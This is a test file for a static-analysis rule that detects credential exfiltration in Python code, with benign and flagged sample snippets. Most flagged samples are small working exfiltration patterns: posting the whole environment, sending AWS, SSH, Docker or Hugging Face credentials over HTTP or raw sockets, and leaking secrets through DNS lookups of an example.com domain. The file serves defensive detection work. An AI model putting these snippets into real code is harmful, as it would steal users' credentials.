import { credentialExfiltration } from '../../../src/detectors/python/credential-exfiltration.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { PYTHON } from './adapter.js';

ruleTester(credentialExfiltration, PYTHON, {
  valid: [
    { name: 'dataset download and a GPU variable', input: "import os, requests\ngpus = os.environ.get('CUDA_VISIBLE_DEVICES')\nr = requests.get(DATA_URL)\n" },
    { name: 'a token in an auth header', input: "import os, requests\nrequests.get(url, headers={'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"})\n" },
    {
      name: 'a child process environment',
      input:
        "import os, subprocess, requests\nenv = os.environ.copy()\nenv['X'] = '1'\nr = subprocess.run(cmd, env=env, capture_output=True)\nrequests.post(url, json={'log': r.stdout})\n",
    },
    { name: 'credentials mentioned in a docstring', input: '"""Reads ~/.netrc like curl does."""\nimport requests\nrequests.get(url)\n' },
    { name: 'credentials read, nothing sent', input: "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n" },
    {
      name: 'the Hub cache read and a dataset downloaded',
      input:
        "import os, json, requests\ncfg = json.load(open(os.path.expanduser('~/.cache/huggingface/hub/models--x/config.json')))\nr = requests.get(DATA_URL)\n",
    },
    {
      name: 'the Hub token in an auth header',
      input: "import requests\nfrom huggingface_hub import get_token\nrequests.get(url, headers={'Authorization': f'Bearer {get_token()}'})\n",
    },
    {
      name: 'a host name from a config variable',
      input: "import os, socket\nsocket.gethostbyname(os.environ['MASTER_ADDR'])\nsocket.getaddrinfo(socket.gethostname(), None)\n",
    },
    { name: 'a token file path only logged', input: "from huggingface_hub import constants\nprint('token at', constants.HF_TOKEN_PATH)\n" },
  ],
  invalid: [
    {
      name: 'the whole environment posted',
      input: 'import os, requests\nrequests.post(URL, data=dict(os.environ))\n',
      errors: [{ severity: 'high', message: 'the whole environment', at: 'requests.post' }],
    },
    {
      name: 'environment through a comprehension',
      input: 'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.post(URL, json=env)\n',
      errors: [{ severity: 'high' }],
    },
    {
      name: 'AWS credentials through urllib',
      input: "import os, urllib.request\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen(URL, data=data.encode())\n",
      errors: [{ severity: 'high', message: 'AWS credentials' }],
    },
    {
      name: 'an SSH key over a raw socket',
      input: "import os, socket\ns = socket.socket()\ns.connect((h, 80))\ns.sendall(open(os.path.join(home, '.ssh', 'id_rsa'), 'rb').read())\n",
      errors: [{ severity: 'high', message: 'SSH keys' }],
    },
    {
      name: 'through a helper function',
      input: "import requests\nfrom pathlib import Path\ndef grab():\n    return (Path.home() / '.netrc').read_text()\nrequests.post(URL, data=grab())\n",
      errors: [{ severity: 'high', message: '.netrc' }],
    },
    {
      name: 'a secret variable in the body',
      input: "import os, requests\nrequests.post(URL, data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
      errors: [{ severity: 'medium', message: 'AWS_SECRET_ACCESS_KEY' }],
    },
    {
      name: 'credentials read and data sent, no visible flow',
      input: "import requests\nfrom pathlib import Path\nkey = Path.home() / '.ssh' / 'id_rsa'\nupload(key)\nrequests.get(URL)\n",
      errors: [{ severity: 'medium', message: 'in the same file', at: "'.ssh'" }],
    },
    {
      name: 'the Hub token file joined and posted',
      input: "import os, requests\np = os.path.join(os.path.expanduser('~'), '.cache', 'huggingface', 'token')\nrequests.post(URL, data=open(p).read())\n",
      errors: [{ severity: 'high', message: 'the Hugging Face token (~/.cache/huggingface/token)' }],
    },
    {
      name: 'the legacy Hub token file through pathlib',
      input: "import httpx\nfrom pathlib import Path\nhttpx.post(URL, content=(Path.home() / '.huggingface' / 'token').read_text())\n",
      errors: [{ severity: 'high', message: 'the Hugging Face token' }],
    },
    {
      name: 'huggingface_hub.get_token in a body',
      input: "import requests\nfrom huggingface_hub import HfFolder\nrequests.post(URL, json={'t': HfFolder.get_token()})\n",
      errors: [{ severity: 'high', message: 'huggingface_hub.HfFolder.get_token' }],
    },
    {
      name: 'HF_TOKEN in a body',
      input: "import os, aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post(URL, data=os.environ['HF_TOKEN'])\n",
      errors: [{ severity: 'medium', message: 'HF_TOKEN' }],
    },
    {
      name: 'boto3 credentials through urllib',
      input:
        'import boto3, json, urllib.request\nc = boto3.Session().get_credentials()\nurllib.request.urlopen(urllib.request.Request(URL, data=json.dumps([c.access_key, c.secret_key]).encode()))\n',
      errors: [
        { severity: 'high', message: 'AWS credentials' },
        { severity: 'high', message: 'AWS credentials' },
      ],
    },
    {
      name: 'a DNS lookup of a name built from a secret',
      input: "import os, socket\ntok = os.environ['AWS_SECRET_ACCESS_KEY']\nsocket.gethostbyname(tok[:60] + '.x.example.com')\n",
      errors: [
        {
          severity: 'medium',
          message: 'socket.gethostbyname at line 3, column 1 looks up a host name built from the secret environment variable AWS_SECRET_ACCESS_KEY',
        },
      ],
    },
    {
      name: 'dnspython resolve of a netrc-derived name',
      input:
        "import dns.resolver, base64\nfrom pathlib import Path\nd = base64.b32encode((Path.home() / '.netrc').read_bytes()).decode()\ndns.resolver.resolve(d + '.x.example.com', 'TXT')\n",
      errors: [{ severity: 'high', message: 'dns.resolver.resolve' }],
    },
    {
      name: 'a UDP sendto of an SSH key',
      input: "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(open('/root/.ssh/id_ed25519', 'rb').read(), (H, 53))\n",
      errors: [{ severity: 'high', message: 'socket.socket().sendto' }],
    },
    {
      name: 'http.client body',
      input:
        "import http.client, os\nc = http.client.HTTPSConnection(H)\nc.putrequest('POST', '/x')\nc.send(open(os.path.expanduser('~/.docker/config.json'), 'rb').read())\n",
      errors: [{ severity: 'high', message: 'Docker credentials' }],
    },
  ],
});
